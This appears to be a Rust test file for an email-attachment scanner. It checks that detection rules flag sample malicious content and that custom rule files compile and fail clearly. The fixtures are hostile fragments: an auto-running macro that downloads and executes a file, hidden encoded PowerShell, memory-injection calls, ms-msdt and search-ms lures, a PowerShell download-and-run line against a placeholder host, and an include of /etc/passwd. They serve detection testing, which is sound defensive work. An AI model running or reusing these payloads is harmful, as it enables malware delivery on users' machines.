//! Every built-in rule matches what it is for, and rule files are checked.

mod made;

use std::time::{Duration, Instant};

use made::{archives, documents, found, message};
use mailkiln_inspect::{Class, Limits, Rules, RulesError, inspect};

fn macro_with(code: &str) -> Vec<u8> {
    documents::doc(&format!("Sub AutoOpen()\r\n{code}\r\nEnd Sub\r\n"))
}

#[test]
fn every_built_in_rule_matches_what_it_is_for() {
    let shortcut = [
        b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice(),
        &[0; 60],
        b"p\0o\0w\0e\0r\0s\0h\0e\0l\0l\0.\0e\0x\0e\0",
    ]
    .concat();
    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
        ("eicar_test_file", "a.txt", made::eicar()),
        ("macro_downloads_and_runs", "a.doc", macro_with("URLDownloadToFile 0, u, f, 0, 0: Shell f")),
        ("macro_starts_powershell", "a.doc", macro_with("x = \"powershell -w hidden -enc AAAA\"")),
        ("macro_injects_code", "a.doc", macro_with("p = VirtualAlloc(0, n, 4096, 64): RtlMoveMemory p, c, n")),
        ("rtf_equation_editor", "a.rtf", b"{\\rtf1{\\object{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}".to_vec()),
        ("document_msdt", "a.html", b"<html><script>location='ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=x'</script>".to_vec()),
        ("shortcut_starts_interpreter", "a.lnk", shortcut),
        ("script_downloads_and_runs", "a.js", b"var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');".to_vec()),
        ("powershell_downloads_and_runs", "a.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')".to_vec()),
        ("internet_shortcut_to_share", "a.url", b"[InternetShortcut]\r\nURL=file://x.example/share/a.exe\r\n".to_vec()),
        ("onenote_with_script", "a.one", archives::onenote(b"<hta:application><script>CreateObject(\"WScript.Shell\")</script>")),
        ("search_protocol", "a.html", b"<html><script>location='search-ms:displayname=x&crumb=location:\\\\\\\\x.example'</script>".to_vec()),
    ];
    for (rule, name, content) in &cases {
        let findings = found(&message(name, content));
        let wanted = format!("[{rule}]");
        assert!(
            findings.iter().any(|finding| finding.reason.ends_with(&wanted)),
            "{rule}: {findings:?}"
        );
    }
    assert_eq!(cases.len(), made::RULES.count(), "a rule has no case here");
}

#[test]
fn rules_from_elsewhere_add_to_the_built_in_ones() {
    let text = r#"rule mine { meta: description = "ours" class = "script" strings: $a = "needle" condition: $a }"#;
    let rules =
        Rules::compile(&[("mine.yar", text), ("also.yar", &text.replace("ours", "theirs"))])
            .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    let report = inspect(&message("a.txt", b"a needle"), &Limits::default(), &rules, deadline);
    let seen: Vec<_> =
        report.findings.iter().map(|finding| (finding.class, finding.reason.as_str())).collect();
    assert_eq!(seen, [(Class::Script, "ours [mine]"), (Class::Script, "theirs [mine]")]);
}

#[test]
fn broken_rules_name_their_file_and_line() {
    let error = Rules::compile(&[
        ("good.yar", "rule a { condition: true }"),
        ("bad.yar", "rule b {\n condition: $x\n}"),
    ])
    .unwrap_err();
    insta::assert_snapshot!(error.to_string());
    let error =
        Rules::compile(&[("bad.yar", "rule b { meta: class = \"virus\" condition: true }")])
            .unwrap_err();
    insta::assert_snapshot!(error.to_string());
    let include = Rules::compile(&[("bad.yar", "include \"/etc/passwd\"")]).unwrap_err();
    assert!(matches!(include, RulesError::Compile { .. }), "{include}");
}
